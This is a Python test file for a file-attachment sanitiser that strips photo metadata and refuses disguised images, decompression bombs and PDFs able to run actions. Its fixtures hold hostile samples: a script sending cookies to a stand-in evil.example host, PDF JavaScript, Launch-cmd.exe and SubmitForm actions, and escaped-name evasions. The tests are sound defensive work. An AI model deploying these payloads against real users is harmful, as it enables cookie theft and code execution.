"""Attachment content made safe: pictures re-encoded without metadata or what trails them,
too many pixels refused, large photos made to fit, and PDFs that can run things refused."""

from __future__ import annotations

import io
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from bhcp_ag.domain.files import (
    MAX_PIXELS,
    PictureRefused,
    clean_attachment,
    clean_picture,
    fit_photo,
    prepare_attachment,
)
from bhcp_ag.domain.limits import MAX_ATTACHMENT_BYTES, AttachmentRefused
from bhcp_ag.domain.pdf_check import PdfRefused, check_pdf
from tests.attachment_files import clean_png, letter_pdf, pdf, photo, picture, stream

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
HTML = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></html>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200) + b"PE\x00\x00"


def _opened(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


def _png_of_size(width: int, height: int) -> bytes:
    """A tiny file claiming ``width`` × ``height`` grey pixels (a decompression bomb)."""
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 0, 0, 0, 0])
    rows = zlib.compress(bytes(1000))  # refused before any row is read
    return (
        PNG_MAGIC
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


# --- pictures ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_a_phone_photo_loses_its_metadata_and_keeps_its_picture(fmt: str) -> None:
    data = photo(fmt)
    assert b"PhoneMaker" in data and b"Mrs Smith" in data  # what a phone leaves in
    clean = clean_attachment(data)
    assert clean.mime_type == f"image/{fmt.lower()}" and clean.metadata_removed
    for secret in (b"PhoneMaker", b"Mrs Smith", b"Exif", b"xmpmeta", b"GPS"):
        assert secret not in clean.content
    image = _opened(clean.content)
    assert not image.getexif() and "icc_profile" not in image.info
    assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density", "dpi"}
    assert (image.width, image.height) == (320, 240) == (clean.width, clean.height)
    pairs = zip(_opened(data).convert("RGB").tobytes(), image.convert("RGB").tobytes(), strict=True)
    difference = sum(abs(a - b) for a, b in pairs)
    assert difference / (320 * 240 * 3) < (2.5 if fmt == "JPEG" else 0.001)  # barely changed


def test_a_jpeg_keeps_its_own_quality_and_subsampling() -> None:
    data = photo("JPEG", quality=75)
    source, clean = _opened(data), _opened(clean_picture(data).content)
    assert clean.quantization == source.quantization  # type: ignore[attr-defined]
    assert len(clean_picture(data).content) < len(data) * 1.05


def test_the_orientation_a_phone_recorded_is_applied_to_the_pixels() -> None:
    data = photo("JPEG", 320, 240, orientation=6)  # "rotate 90° clockwise to view"
    clean = clean_picture(data)
    assert (clean.width, clean.height) == (240, 320)
    assert not _opened(clean.content).getexif()


@pytest.mark.parametrize(
    ("what", "trailer"),
    [("HTML and script", HTML), ("a program", EXE), ("a zip", b"PK\x03\x04" + bytes(100))],
)
@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_what_trails_a_picture_is_dropped(fmt: str, what: str, trailer: bytes) -> None:
    clean = clean_attachment(photo(fmt) + trailer)
    assert trailer[:20] not in clean.content, what
    assert clean.content.endswith(b"\xff\xd9" if fmt == "JPEG" else b"IEND\xaeB`\x82")


@pytest.mark.parametrize(
    "data",
    [
        PNG_MAGIC + HTML,  # a PNG's first bytes, then a web page
        PNG_MAGIC + EXE,  # ... then a program
        PNG_MAGIC + _png_chunk(b"IHDR", bytes(13)) + HTML,  # a header of no picture
        b"\xff\xd8\xff\xe0" + HTML,  # a JPEG's first bytes, then a web page
        b"\xff\xd8\xff" + EXE,
        photo("PNG")[:400],  # cut short
        photo("JPEG")[:300],
    ],
    ids=["png+html", "png+exe", "png-header+html", "jpeg+html", "jpeg+exe", "png-cut", "jpeg-cut"],
)
def test_a_picture_that_is_not_one_is_refused(data: bytes) -> None:
    with pytest.raises(PictureRefused, match="cannot be (read|decoded)"):
        clean_attachment(data)


@pytest.mark.parametrize(("width", "height"), [(10_000, 5_001), (60_000, 60_000), (2**31 - 1, 2)])
def test_too_many_pixels_are_refused_before_decoding(width: int, height: int) -> None:
    bomb = _png_of_size(width, height)
    assert len(bomb) < 1_000_000
    with pytest.raises(PictureRefused, match=f"more than {MAX_PIXELS // 1_000_000} million"):
        clean_attachment(bomb)


def test_transparency_and_palettes_survive() -> None:
    out = io.BytesIO()
    Image.new("RGBA", (30, 20), (10, 20, 30, 0)).save(out, "PNG")
    assert _opened(clean_picture(out.getvalue()).content).getpixel((0, 0)) == (10, 20, 30, 0)
    out = io.BytesIO()
    palette = Image.new("P", (30, 20), 0)
    palette.putpalette([200, 10, 10, 10, 200, 10])
    palette.putpixel((0, 0), 1)
    palette.save(out, "PNG", transparency=1)
    kept = _opened(clean_picture(out.getvalue()).content)
    assert kept.mode == "P"
    assert kept.convert("RGBA").getpixel((0, 0))[3] == 0  # still see-through
    assert kept.convert("RGBA").getpixel((5, 5)) == _opened(out.getvalue()).convert(
        "RGBA"
    ).getpixel((5, 5))


def test_a_clean_png_is_kept_byte_for_byte() -> None:
    data = clean_png()
    assert clean_attachment(data).content == data
    assert not clean_attachment(data).metadata_removed


# --- photos made to fit ----------------------------------------------------------------------


@pytest.mark.slow
def test_a_12_mb_phone_photo_is_made_to_fit_5_mb() -> None:
    data = photo("JPEG", 4032, 3024, quality=100, noise=0.6)
    assert len(data) > 12 * 1024 * 1024
    fitted = fit_photo(data)
    assert fitted.made_smaller and len(fitted.file.content) <= MAX_ATTACHMENT_BYTES
    assert (fitted.original_width, fitted.original_height) == (4032, 3024)
    assert fitted.file.width is not None and fitted.file.width >= 2000  # still a clinical photo
    assert b"PhoneMaker" not in fitted.file.content
    prepared = prepare_attachment("IMG_0001.jpg", data)
    assert prepared.file.content == fitted.file.content
    made_smaller, removed = prepared.notes
    assert made_smaller.startswith("'IMG_0001.jpg' was made smaller to fit the 5 MB limit: ")
    assert "4032 × 3024 pixels, now " in made_smaller
    assert "where and when it was taken" in removed


@pytest.mark.slow
def test_a_large_png_stays_a_png_and_fits() -> None:
    out = io.BytesIO()
    picture(2600, 2000, noise=0.8).save(out, "PNG")
    assert len(out.getvalue()) > MAX_ATTACHMENT_BYTES
    fitted = fit_photo(out.getvalue())
    assert fitted.file.mime_type == "image/png" and fitted.made_smaller
    assert len(fitted.file.content) <= MAX_ATTACHMENT_BYTES


def test_a_photo_within_the_limit_keeps_its_pixels() -> None:
    fitted = fit_photo(photo("JPEG", 640, 480))
    assert not fitted.made_smaller
    assert (fitted.file.width, fitted.file.height) == (640, 480)


def test_the_desktop_gives_a_safe_name_and_says_so() -> None:
    prepared = prepare_attachment("photo\u202egnp.exe", clean_png())
    assert prepared.filename == "photognp.exe"
    assert prepared.notes == (
        "'photo?gnp.exe' is attached as 'photognp.exe': its name had characters that file "
        "names cannot safely hold.",
    )
    with pytest.raises(AttachmentRefused, match="over 5 MB|at most 5 MB"):
        prepare_attachment("scan.pdf", letter_pdf() + bytes(MAX_ATTACHMENT_BYTES))
    with pytest.raises(
        AttachmentRefused, match="^'evil.pdf': the PDF cannot be attached: it contains JavaScript"
    ):
        prepare_attachment("evil.pdf", pdf("/OpenAction << /S /JavaScript /JS (x) >>"))


# --- PDFs ------------------------------------------------------------------------------------

JS = "/S /JavaScript /JS (app.alert(1))"
FILESPEC = "<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>"
HOSTILE_PDFS = {
    "open action JavaScript": pdf(f"/OpenAction << {JS} >>"),
    "escaped name /J#61vaScript": pdf("/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
    "escaped key /#4A#53": pdf("/OpenAction << /S /JavaScript /#4A#53 (x) >>"),
    "script in a stream": pdf(
        "/OpenAction << /S /JavaScript /JS 4 0 R >>", objects=(stream(b"x"),)
    ),
    "Names tree JavaScript": pdf(
        "/Names << /JavaScript 4 0 R >>", objects=("<< /Names [(a) 5 0 R] >>", f"<< {JS} >>")
    ),
    "page additional action": pdf(page=f"/AA << /O << {JS} >> >>"),
    "catalog additional action": pdf(f"/AA << /WC << {JS} >> >>"),
    "link annotation JavaScript": pdf(
        page="/Annots [4 0 R]", objects=(f"<< /Type /Annot /Subtype /Link /A << {JS} >> >>",)
    ),
    "chained Next action": pdf(f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << {JS} >> >>"),
    "unreferenced script object": pdf(objects=(f"<< {JS} >>",)),
    "launch": pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "import data": pdf("/OpenAction << /S /ImportData /F (x.fdf) >>"),
    "submit form": pdf("/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
    "embedded files": pdf(
        "/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>",
        objects=(FILESPEC, stream(b"MZ", "/Type /EmbeddedFile")),
    ),
    "file attachment annotation": pdf(
        page="/Annots [4 0 R]",
        objects=("<< /Type /Annot /Subtype /FileAttachment /FS 5 0 R >>", "<< /F (x.exe) >>"),
    ),
    "rich media": pdf(page="/Annots [4 0 R]", objects=("<< /Type /Annot /Subtype /RichMedia >>",)),
    "XFA form": pdf("/AcroForm << /Fields [] /XFA 4 0 R >>", objects=(stream(b"<xdp:xdp/>"),)),
}
UNREADABLE_PDFS = {
    "a web page": b"%PDF-1.7\n" + HTML,
    "a program": b"%PDF-1.4\n" + EXE,
    "cut short": letter_pdf()[:60],
    "no pages": b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF",
}


@pytest.mark.parametrize("name", list(HOSTILE_PDFS))
def test_a_pdf_that_can_run_something_is_refused(name: str) -> None:
    with pytest.raises(PdfRefused, match="cannot be attached: it contains .*Print it to a new"):
        clean_attachment(HOSTILE_PDFS[name])


@pytest.mark.parametrize("name", list(UNREADABLE_PDFS))
def test_a_pdf_that_cannot_be_read_is_refused(name: str) -> None:
    with pytest.raises(PdfRefused, match="cannot be read"):
        check_pdf(UNREADABLE_PDFS[name])


def test_an_encrypted_pdf_is_refused() -> None:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(letter_pdf())))
    writer.encrypt("secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(PdfRefused, match="password-protected"):
        check_pdf(out.getvalue())


def test_honest_pdfs_pass_as_they_are() -> None:
    letter = letter_pdf()
    assert clean_attachment(letter).content == letter
    with_link = pdf(
        page="/Annots [4 0 R]",
        objects=("<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://nhs.uk) >> >>",),
    )
    check_pdf(with_link)  # a web link is not a script


def test_a_second_picture_hidden_in_the_file_is_dropped() -> None:
    first, hidden = picture(120, 90, seed=1), picture(120, 90, seed=2)
    for fmt in ("MPO", "PNG"):  # a phone's multi-picture JPEG; an animated PNG
        out = io.BytesIO()
        first.save(out, fmt, save_all=True, append_images=[hidden])
        assert getattr(_opened(out.getvalue()), "n_frames", 1) == 2
        clean = clean_attachment(out.getvalue())
        kept = _opened(clean.content)
        assert getattr(kept, "n_frames", 1) == 1 and kept.format in ("JPEG", "PNG"), fmt
        assert clean.content.count(b"\xff\xd8") == 1 or fmt == "PNG"
        assert b"acTL" not in clean.content  # no animation control left


SEEDS = {"jpeg": photo("JPEG", 64, 48), "png": photo("PNG", 64, 48), "pdf": letter_pdf()}


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from(sorted(SEEDS)),
    st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), min_size=1, max_size=8),
    st.integers(0, 10_000),
)
def test_damaged_files_are_cleaned_or_refused_never_anything_else(
    kind: str, changes: list[tuple[int, int]], cut: int
) -> None:
    data = bytearray(SEEDS[kind])
    for at, value in changes:
        data[8 + at % (len(data) - 8)] = value  # the magic bytes kept: it claims its type
    try:
        clean = clean_attachment(bytes(data[: max(16, len(data) - cut)]))
    except AttachmentRefused:
        return
    if clean.mime_type != "application/pdf":
        assert _opened(clean.content).size == (clean.width, clean.height)
